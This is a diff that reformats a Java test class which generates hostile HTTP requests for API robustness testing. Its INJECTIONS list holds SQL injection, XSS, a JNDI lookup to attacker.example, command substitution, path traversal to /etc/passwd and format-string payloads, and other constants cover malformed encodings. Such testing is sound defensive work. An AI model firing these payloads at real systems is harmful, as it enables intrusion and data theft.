@@ -6,7 +6,6 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
-
 import java.io.ByteArrayOutputStream;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
@@ -40,12 +39,11 @@ final class HostileRequests {
     }
 
     /** One request and the name of what it tries, for the report. */
-    record Case(String name, RawHttp.Request request, Kind kind) {
-    }
+    record Case(String name, RawHttp.Request request, Kind kind) {}
 
     /** A JSON escape of a control character other than tab and line breaks, or of a lone surrogate. */
-    private static final Pattern MALFORMED_ESCAPE = Pattern.compile(
-            "\\\\u(000[0-8bcefBCEF]|001[0-9a-fA-F]|007[fF]|[dD][89a-fA-F][0-9a-fA-F]{2})");
+    private static final Pattern MALFORMED_ESCAPE =
+            Pattern.compile("\\\\u(000[0-8bcefBCEF]|001[0-9a-fA-F]|007[fF]|[dD][89a-fA-F][0-9a-fA-F]{2})");
 
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
@@ -56,16 +54,30 @@ final class HostileRequests {
 
     /** Values that stand for a valid one where the schema alone does not give it, by parameter or field name. */
     private static final Map<String, String> KNOWN_VALUES = Map.ofEntries(
-            Map.entry("agency", "A"), Map.entry("code", "A"), Map.entry("channel", "IN_PERSON"),
-            Map.entry("idNumber", "11010519491231002X"), Map.entry("phone", "13800138000"),
-            Map.entry("email", "zhangsan@example.cn"), Map.entry("queue", "awaiting-acceptance"),
-            Map.entry("year", "2199"), Map.entry("type", "NATURAL_PERSON"), Map.entry("form", "ELECTRONIC"),
-            Map.entry("method", "EMAIL"), Map.entry("deliveryMethod", "EMAIL"));
+            Map.entry("agency", "A"),
+            Map.entry("code", "A"),
+            Map.entry("channel", "IN_PERSON"),
+            Map.entry("idNumber", "11010519491231002X"),
+            Map.entry("phone", "13800138000"),
+            Map.entry("email", "zhangsan@example.cn"),
+            Map.entry("queue", "awaiting-acceptance"),
+            Map.entry("year", "2199"),
+            Map.entry("type", "NATURAL_PERSON"),
+            Map.entry("form", "ELECTRONIC"),
+            Map.entry("method", "EMAIL"),
+            Map.entry("deliveryMethod", "EMAIL"));
 
     private static final List<String> INJECTIONS = List.of(
-            "' OR '1'='1' --", "\"; DROP TABLE information_request; --", "<script>alert(1)</script>",
-            "${jndi:ldap://attacker.example/a}", "{{7*7}}#{7*7}", "../../../../etc/passwd", "$(id)`id`",
-            "\\\\attacker\\share", "%s%s%s%n", "A-2026-000001' UNION SELECT 1 --");
+            "' OR '1'='1' --",
+            "\"; DROP TABLE information_request; --",
+            "<script>alert(1)</script>",
+            "${jndi:ldap://attacker.example/a}",
+            "{{7*7}}#{7*7}",
+            "../../../../etc/passwd",
+            "$(id)`id`",
+            "\\\\attacker\\share",
+            "%s%s%s%n",
+            "A-2026-000001' UNION SELECT 1 --");
 
     /** Raw JSON values for a string field; invalid UTF-8 as raw bytes. */
     private static final Map<String, byte[]> STRING_VALUES = rawValues(Map.ofEntries(
@@ -81,60 +93,150 @@ final class HostileRequests {
             Map.entry("number", "12"),
             Map.entry("object", "{\"a\":1}"),
             Map.entry("array", "[\"a\"]")));
+
     private static final Map<String, byte[]> INVALID_UTF8 = Map.of(
-            "overlong UTF-8 slash", new byte[]{'"', 'a', (byte) 0xC0, (byte) 0xAF, 'b', '"'},
-            "invalid UTF-8 byte", new byte[]{'"', (byte) 0xFF, (byte) 0xFE, '"'},
-            "UTF-8 encoded surrogate", new byte[]{'"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'},
-            "truncated UTF-8", new byte[]{'"', 'a', (byte) 0xE4, (byte) 0xB8, '"'});
+            "overlong UTF-8 slash", new byte[] {'"', 'a', (byte) 0xC0, (byte) 0xAF, 'b', '"'},
+            "invalid UTF-8 byte", new byte[] {'"', (byte) 0xFF, (byte) 0xFE, '"'},
+            "UTF-8 encoded surrogate", new byte[] {'"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'},
+            "truncated UTF-8", new byte[] {'"', 'a', (byte) 0xE4, (byte) 0xB8, '"'});
     /** Values that would be stored altered if accepted; the rest of the text cases escape as JSON. */
-    private static final Set<String> MUST_REFUSE = Set.of("overlong UTF-8 slash",
-            "invalid UTF-8 byte", "UTF-8 encoded surrogate", "truncated UTF-8", "enum by position");
+    private static final Set<String> MUST_REFUSE = Set.of(
+            "overlong UTF-8 slash",
+            "invalid UTF-8 byte",
+            "UTF-8 encoded surrogate",
+            "truncated UTF-8",
+            "enum by position");
+
     private static final Map<String, byte[]> DATE_VALUES = rawValues(Map.of(
-            "impossible date", "\"2026-02-30\"", "extreme future date", "\"+999999999-12-31\"",
-            "extreme past date", "\"-999999999-01-01\"", "year zero", "\"0000-00-00\"",
-            "five-digit year", "\"10000-01-01\"", "short date", "\"2026-1-1\"",
-            "date-time", "\"2026-03-02T10:00:00+08:00\"", "number date", "20260302"));
+            "impossible date",
+            "\"2026-02-30\"",
+            "extreme future date",
+            "\"+999999999-12-31\"",
+            "extreme past date",
+            "\"-999999999-01-01\"",
+            "year zero",
+            "\"0000-00-00\"",
+            "five-digit year",
+            "\"10000-01-01\"",
+            "short date",
+            "\"2026-1-1\"",
+            "date-time",
+            "\"2026-03-02T10:00:00+08:00\"",
+            "number date",
+            "20260302"));
     private static final Map<String, byte[]> NUMBER_VALUES = rawValues(Map.of(
-            "above int", "2147483648", "below int", "-2147483649", "above long", "9223372036854775808",
-            "huge exponent", "1e400", "fraction", "1.5", "numeric string", "\"1\"", "negative", "-1",
-            "zero", "0", "text", "\"abc\""));
+            "above int",
+            "2147483648",
+            "below int",
+            "-2147483649",
+            "above long",
+            "9223372036854775808",
+            "huge exponent",
+            "1e400",
+            "fraction",
+            "1.5",
+            "numeric string",
+            "\"1\"",
+            "negative",
+            "-1",
+            "zero",
+            "0",
+            "text",
+            "\"abc\""));
     private static final Map<String, byte[]> ENUM_VALUES = rawValues(Map.of(
-            "enum by position", "1", "enum in lower case", "\"lowercase\"", "unknown enum", "\"NOT_A_CONSTANT\"",
-            "empty enum", "\"\""));
+            "enum by position",
+            "1",
+            "enum in lower case",
+            "\"lowercase\"",
+            "unknown enum",
+            "\"NOT_A_CONSTANT\"",
+            "empty enum",
+            "\"\""));
     private static final Map<String, byte[]> ANY_VALUES = rawValues(Map.of(
-            "null", "null", "boolean", "true", "array of null", "[null]", "deep array", "[".repeat(3000)
-                    + "]".repeat(3000)));
+            "null",
+            "null",
+            "boolean",
+            "true",
+            "array of null",
+            "[null]",
+            "deep array",
+            "[".repeat(3000) + "]".repeat(3000)));
     private static final Map<String, String> MALFORMED_BODIES = Map.ofEntries(
-            Map.entry("empty body", ""), Map.entry("unclosed object", "{"), Map.entry("missing value", "{\"a\":}"),
-            Map.entry("trailing comma", "{\"a\":1,}"), Map.entry("two documents", "{} {}"),
-            Map.entry("bare word", "nul"), Map.entry("JSON null", "null"), Map.entry("JSON string", "\"text\""),
-            Map.entry("JSON array", "[]"), Map.entry("JSON number", "123"), Map.entry("single quotes", "{'a':1}"),
+            Map.entry("empty body", ""),
+            Map.entry("unclosed object", "{"),
+            Map.entry("missing value", "{\"a\":}"),
+            Map.entry("trailing comma", "{\"a\":1,}"),
+            Map.entry("two documents", "{} {}"),
+            Map.entry("bare word", "nul"),
+            Map.entry("JSON null", "null"),
+            Map.entry("JSON string", "\"text\""),
+            Map.entry("JSON array", "[]"),
+            Map.entry("JSON number", "123"),
+            Map.entry("single quotes", "{'a':1}"),
             Map.entry("deep nesting", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000)),
-            Map.entry("comment", "/* c */ {}"), Map.entry("byte order mark", "\uFEFF{}"));
+            Map.entry("comment", "/* c */ {}"),
+            Map.entry("byte order mark", "\uFEFF{}"));
     private static final Map<String, String> BAD_PATH_VALUES = Map.ofEntries(
-            Map.entry("NUL", "%00"), Map.entry("NUL inside", "a%00b"), Map.entry("malformed escape", "%zz"),
-            Map.entry("half escape", "%4"), Map.entry("overlong UTF-8 slash", "%C0%AF"),
-            Map.entry("encoded surrogate", "%ED%A0%80"), Map.entry("invalid UTF-8", "%FF%FE"),
-            Map.entry("traversal", "..%2F..%2Fetc%2Fpasswd"), Map.entry("injection", "'%20OR%20'1'='1"),
-            Map.entry("long segment", "9".repeat(4000)), Map.entry("negative", "-1"),
-            Map.entry("huge number", "99999999999999999999999"), Map.entry("extreme date", "%2B999999999-12-31"),
-            Map.entry("control character", "%07%1B"), Map.entry("unicode", "%E9%95%BF%E2%80%AE"),
+            Map.entry("NUL", "%00"),
+            Map.entry("NUL inside", "a%00b"),
+            Map.entry("malformed escape", "%zz"),
+            Map.entry("half escape", "%4"),
+            Map.entry("overlong UTF-8 slash", "%C0%AF"),
+            Map.entry("encoded surrogate", "%ED%A0%80"),
+            Map.entry("invalid UTF-8", "%FF%FE"),
+            Map.entry("traversal", "..%2F..%2Fetc%2Fpasswd"),
+            Map.entry("injection", "'%20OR%20'1'='1"),
+            Map.entry("long segment", "9".repeat(4000)),
+            Map.entry("negative", "-1"),
+            Map.entry("huge number", "99999999999999999999999"),
+            Map.entry("extreme date", "%2B999999999-12-31"),
+            Map.entry("control character", "%07%1B"),
+            Map.entry("unicode", "%E9%95%BF%E2%80%AE"),
             Map.entry("empty", ""));
     private static final Map<String, String> BAD_QUERY_VALUES = Map.ofEntries(
-            Map.entry("NUL inside", "a%00b"), Map.entry("malformed escape", "%zz"),
-            Map.entry("invalid UTF-8", "%FF%FE"), Map.entry("encoded surrogate", "%ED%A0%80"),
-            Map.entry("control characters", "%07%1B%7F"), Map.entry("huge value", "x".repeat(6000)),
-            Map.entry("injection", "'%20OR%20'1'='1"), Map.entry("empty", ""),
-            Map.entry("above int", "2147483648"), Map.entry("negative", "-1"), Map.entry("text", "abc"),
-            Map.entry("impossible date", "2026-02-30"), Map.entry("extreme date", "%2B999999999-12-31"),
-            Map.entry("extreme past date", "-999999999-01-01"), Map.entry("five-digit year", "10000-01-01"));
+            Map.entry("NUL inside", "a%00b"),
+            Map.entry("malformed escape", "%zz"),
+            Map.entry("invalid UTF-8", "%FF%FE"),
+            Map.entry("encoded surrogate", "%ED%A0%80"),
+            Map.entry("control characters", "%07%1B%7F"),
+            Map.entry("huge value", "x".repeat(6000)),
+            Map.entry("injection", "'%20OR%20'1'='1"),
+            Map.entry("empty", ""),
+            Map.entry("above int", "2147483648"),
+            Map.entry("negative", "-1"),
+            Map.entry("text", "abc"),
+            Map.entry("impossible date", "2026-02-30"),
+            Map.entry("extreme date", "%2B999999999-12-31"),
+            Map.entry("extreme past date", "-999999999-01-01"),
+            Map.entry("five-digit year", "10000-01-01"));
     private static final Map<String, String> BAD_HEADER_VALUES = Map.of(
-            "long header", "k".repeat(300), "space in header", "a b", "non-ASCII header", "\u00e9\u00bf",
-            "quoted header", "\"1\"", "negative header", "-1", "huge number header", "99999999999999999999");
+            "long header",
+            "k".repeat(300),
+            "space in header",
+            "a b",
+            "non-ASCII header",
+            "\u00e9\u00bf",
+            "quoted header",
+            "\"1\"",
+            "negative header",
+            "-1",
+            "huge number header",
+            "99999999999999999999");
     private static final Map<String, String> WRONG_CONTENT_TYPES = Map.of(
-            "text/plain", "text/plain", "XML", "application/xml", "form", "application/x-www-form-urlencoded",
-            "multipart without boundary", "multipart/form-data", "UTF-16 JSON", "application/json; charset=UTF-16",
-            "garbage content type", "%%%/;;;", "JSON with parameters", "application/json; charset=\u00ff");
+            "text/plain",
+            "text/plain",
+            "XML",
+            "application/xml",
+            "form",
+            "application/x-www-form-urlencoded",
+            "multipart without boundary",
+            "multipart/form-data",
+            "UTF-16 JSON",
+            "application/json; charset=UTF-16",
+            "garbage content type",
+            "%%%/;;;",
+            "JSON with parameters",
+            "application/json; charset=\u00ff");
 
     private final Random random;
 
@@ -151,30 +253,36 @@ final class HostileRequests {
         List<Case> cases = new ArrayList<>();
         Base base = new Base(operation, valid, authorization);
         for (ApiOperations.Parameter parameter : operation.parameters("path")) {
-            BAD_PATH_VALUES.forEach((name, value) -> cases.add(base.named("path " + parameter.name() + ": " + name,
+            BAD_PATH_VALUES.forEach((name, value) -> cases.add(base.named(
+                    "path " + parameter.name() + ": " + name,
                     base.request(valid.withPath(parameter.name(), value).text()))));
         }
         for (ApiOperations.Parameter parameter : operation.parameters("query")) {
-            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named("query " + parameter.name() + ": " + name,
+            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named(
+                    "query " + parameter.name() + ": " + name,
                     base.request(valid.withQuery(parameter.name(), value).text()))));
             // Alone too: with the others set, a check of their combination may refuse it first.
-            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named("query " + parameter.name() + " alone: "
-                    + name, base.request(valid.onlyQuery(parameter.name(), value).text()))));
+            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named(
+                    "query " + parameter.name() + " alone: " + name,
+                    base.request(valid.onlyQuery(parameter.name(), value).text()))));
         }
         for (ApiOperations.Parameter parameter : operation.parameters("header")) {
-            BAD_HEADER_VALUES.forEach((name, value) -> cases.add(base.named("header " + parameter.name() + ": " + name,
+            BAD_HEADER_VALUES.forEach((name, value) -> cases.add(base.named(
+                    "header " + parameter.name() + ": " + name,
                     base.request(valid.text()).header(parameter.name(), value))));
         }
-        cases.add(base.named("unknown query parameters", base.request(valid.text() + separator(valid.text())
-                + "__proto__=1&%zz=1&page=-1&size=1000000")));
-        cases.add(base.named("over-long URI", base.request(valid.text() + separator(valid.text()) + "q="
-                + "a".repeat(70_000))));
-        cases.add(base.named("malformed escape in query", base.request(valid.text() + separator(valid.text())
-                + "a=%zz%")));
+        cases.add(base.named(
+                "unknown query parameters",
+                base.request(valid.text() + separator(valid.text()) + "__proto__=1&%zz=1&page=-1&size=1000000")));
+        cases.add(base.named(
+                "over-long URI", base.request(valid.text() + separator(valid.text()) + "q=" + "a".repeat(70_000))));
+        cases.add(base.named(
+                "malformed escape in query", base.request(valid.text() + separator(valid.text()) + "a=%zz%")));
         cases.add(base.named("huge header", base.request(valid.text()).header("X-Filler", "a".repeat(30_000))));
         cases.add(base.named("unacceptable Accept", base.request(valid.text()).header("Accept", "text/html")));
-        cases.add(base.named("undeclared method", RawHttp.Request.of("DELETE", valid.text())
-                .header("Authorization", authorization)));
+        cases.add(base.named(
+                "undeclared method",
+                RawHttp.Request.of("DELETE", valid.text()).header("Authorization", authorization)));
         operation.bodySchema().ifPresent(schema -> cases.addAll(bodyCases(operation, schema, base)));
         return cases;
     }
@@ -184,37 +292,51 @@ final class HostileRequests {
         String type = operation.bodyType().orElseThrow();
         if (!type.contains("json")) {
             // A binary upload: spoil only its size and type, the bytes are the applicant's.
-            cases.add(base.named("empty upload", base.request(base.target()).body("application/octet-stream",
-                    new byte[0])));
-            cases.add(base.named("oversized declared body", base.request(base.target())
-                    .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
-                    .header("Content-Type", "application/pdf"), true));
-            cases.add(base.named("oversized chunked body", base.request(base.target())
-                    .chunked("application/pdf", OVERSIZED_BYTES), true));
+            cases.add(base.named(
+                    "empty upload", base.request(base.target()).body("application/octet-stream", new byte[0])));
+            cases.add(base.named(
+                    "oversized declared body",
+                    base.request(base.target())
+                            .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
+                            .header("Content-Type", "application/pdf"),
+                    true));
+            cases.add(base.named(
+                    "oversized chunked body",
+                    base.request(base.target()).chunked("application/pdf", OVERSIZED_BYTES),
+                    true));
             return cases;
         }
         JsonNode valid = sample(operation, schema, "", 0);
         cases.add(base.named("valid body", base.json(bytes(valid))));
-        MALFORMED_BODIES.forEach((name, body) -> cases.add(base.named(name, base.json(
-                body.getBytes(StandardCharsets.UTF_8)))));
-        WRONG_CONTENT_TYPES.forEach((name, contentType) -> cases.add(base.named("content type " + name,
-                base.request(base.target()).body(contentType, bytes(valid)))));
+        MALFORMED_BODIES.forEach(
+                (name, body) -> cases.add(base.named(name, base.json(body.getBytes(StandardCharsets.UTF_8)))));
+        WRONG_CONTENT_TYPES.forEach((name, contentType) -> cases.add(
+                base.named("content type " + name, base.request(base.target()).body(contentType, bytes(valid)))));
         cases.add(base.named("no content type", base.request(base.target()).withoutContentType(bytes(valid))));
-        cases.add(base.named("Latin-1 JSON", base.request(base.target()).body("application/json; charset=ISO-8859-1",
-                "{\"comment\":\"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1))));
-        cases.add(base.named("oversized declared body", base.request(base.target())
-                .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
-                .header("Content-Type", JSON_TYPE), true));
-        cases.add(base.named("oversized chunked body", base.request(base.target())
-                .chunked(JSON_TYPE, OVERSIZED_BYTES), true));
+        cases.add(base.named(
+                "Latin-1 JSON",
+                base.request(base.target())
+                        .body(
+                                "application/json; charset=ISO-8859-1",
+                                "{\"comment\":\"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1))));
+        cases.add(base.named(
+                "oversized declared body",
+                base.request(base.target())
+                        .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
+                        .header("Content-Type", JSON_TYPE),
+                true));
+        cases.add(base.named(
+                "oversized chunked body", base.request(base.target()).chunked(JSON_TYPE, OVERSIZED_BYTES), true));
         if (valid instanceof ObjectNode object) {
             ObjectNode extra = object.deepCopy();
             extra.put("unexpectedField", "x");
             extra.putObject("__proto__").put("polluted", true);
             cases.add(base.named("extra fields", base.json(bytes(extra))));
             String text = bytes(object).length > 2 ? new String(bytes(object), StandardCharsets.UTF_8) : "{}";
-            cases.add(base.named("duplicate keys", base.json(("{\"comment\":\"a\",\"comment\":\"b\","
-                    + text.substring(1)).getBytes(StandardCharsets.UTF_8))));
+            cases.add(base.named(
+                    "duplicate keys",
+                    base.json(("{\"comment\":\"a\",\"comment\":\"b\"," + text.substring(1))
+                            .getBytes(StandardCharsets.UTF_8))));
             cases.add(base.named("all fields missing", base.json("{}".getBytes(StandardCharsets.UTF_8))));
             for (String required : requiredFields(operation, schema)) {
                 ObjectNode missing = object.deepCopy();
@@ -223,10 +345,14 @@ final class HostileRequests {
             }
             for (List<String> field : fields(object, new ArrayList<>())) {
                 JsonNode fieldSchema = schemaAt(operation, schema, field);
-                for (Map.Entry<String, byte[]> value : valuesFor(operation, fieldSchema).entrySet()) {
-                    boolean refused = MUST_REFUSE.contains(value.getKey()) || MALFORMED_ESCAPE.matcher(
-                            new String(value.getValue(), StandardCharsets.ISO_8859_1)).find();
-                    cases.add(new Case("field " + String.join(".", field) + ": " + value.getKey(),
+                for (Map.Entry<String, byte[]> value :
+                        valuesFor(operation, fieldSchema).entrySet()) {
+                    boolean refused = MUST_REFUSE.contains(value.getKey())
+                            || MALFORMED_ESCAPE
+                                    .matcher(new String(value.getValue(), StandardCharsets.ISO_8859_1))
+                                    .find();
+                    cases.add(new Case(
+                            "field " + String.join(".", field) + ": " + value.getKey(),
                             base.json(replace(object, field, value.getValue())),
                             refused ? Kind.REFUSED : Kind.ANSWERED));
                 }
@@ -279,7 +405,9 @@ final class HostileRequests {
                 case 3 -> 0x10000 + random.nextInt(0x1000);
                 default -> 0x20 + random.nextInt(0x5F);
             };
-            if (codePoint < 0x20 || (codePoint >= 0xD800 && codePoint < 0xE000) || codePoint == '"'
+            if (codePoint < 0x20
+                    || (codePoint >= 0xD800 && codePoint < 0xE000)
+                    || codePoint == '"'
                     || codePoint == '\\') {
                 text.append(String.format("\\u%04x", codePoint));
             } else {
@@ -294,7 +422,8 @@ final class HostileRequests {
         JsonNode schema = operation.resolve(rawSchema);
         if (KNOWN_VALUES.containsKey(name)) {
             String known = KNOWN_VALUES.get(name);
-            return schema.path("type").asText().equals("integer") ? NODES.numberNode(Long.parseLong(known))
+            return schema.path("type").asText().equals("integer")
+                    ? NODES.numberNode(Long.parseLong(known))
                     : NODES.textNode(known);
         }
         if (schema.has("enum")) {
@@ -304,8 +433,11 @@ final class HostileRequests {
             case "object" -> {
                 ObjectNode object = NODES.objectNode();
                 if (depth < 4) {
-                    schema.path("properties").properties().forEach(property -> object.set(property.getKey(),
-                            sample(operation, property.getValue(), property.getKey(), depth + 1)));
+                    schema.path("properties")
+                            .properties()
+                            .forEach(property -> object.set(
+                                    property.getKey(),
+                                    sample(operation, property.getValue(), property.getKey(), depth + 1)));
                 }
                 return object;
             }
@@ -316,8 +448,10 @@ final class HostileRequests {
             }
             case "integer", "number" -> {
                 long value = Math.max(schema.path("minimum").asLong(1), 1);
-                return NODES.numberNode(schema.has("maximum") ? Math.min(value, schema.get("maximum").asLong())
-                        : value);
+                return NODES.numberNode(
+                        schema.has("maximum")
+                                ? Math.min(value, schema.get("maximum").asLong())
+                                : value);
             }
             case "boolean" -> {
                 return NODES.booleanNode(false);
@@ -397,8 +531,9 @@ final class HostileRequests {
     }
 
     private static Map<String, byte[]> rawValues(Map<String, String> values) {
-        return values.entrySet().stream().collect(Collectors.toMap(Map.Entry::getKey,
-                entry -> entry.getValue().getBytes(StandardCharsets.UTF_8)));
+        return values.entrySet().stream()
+                .collect(Collectors.toMap(
+                        Map.Entry::getKey, entry -> entry.getValue().getBytes(StandardCharsets.UTF_8)));
     }
 
     private static String separator(String target) {
@@ -415,12 +550,10 @@ final class HostileRequests {
         Target(ApiOperations.Operation operation, Map<String, String> pathValues) {
             this.operation = operation;
             for (ApiOperations.Parameter parameter : operation.parameters("path")) {
-                path.put(parameter.name(), pathValues.getOrDefault(parameter.name(),
-                        pathValue(operation, parameter)));
+                path.put(parameter.name(), pathValues.getOrDefault(parameter.name(), pathValue(operation, parameter)));
             }
             for (ApiOperations.Parameter parameter : operation.parameters("query")) {
-                query.put(parameter.name(), pathValues.getOrDefault(parameter.name(),
-                        pathValue(operation, parameter)));
+                query.put(parameter.name(), pathValues.getOrDefault(parameter.name(), pathValue(operation, parameter)));
             }
         }
 
@@ -455,8 +588,10 @@ final class HostileRequests {
                 target = target.replace("{" + parameter.getKey() + "}", parameter.getValue());
             }
             if (!query.isEmpty()) {
-                target += "?" + query.entrySet().stream().map(entry -> entry.getKey() + "=" + entry.getValue())
-                        .collect(Collectors.joining("&"));
+                target += "?"
+                        + query.entrySet().stream()
+                                .map(entry -> entry.getKey() + "=" + entry.getValue())
+                                .collect(Collectors.joining("&"));
             }
             return target;
         }
@@ -474,8 +609,9 @@ final class HostileRequests {
                     .header("Authorization", authorization)
                     .header("Accept", "application/json, application/problem+json, application/pdf");
             if (operation.bodyType().filter(type -> type.contains("json")).isPresent()) {
-                request = request.body(JSON_TYPE, bytes(sample(operation, operation.bodySchema().orElseThrow(),
-                        "", 0)));
+                request = request.body(
+                        JSON_TYPE,
+                        bytes(sample(operation, operation.bodySchema().orElseThrow(), "", 0)));
             }
             return request;
         }
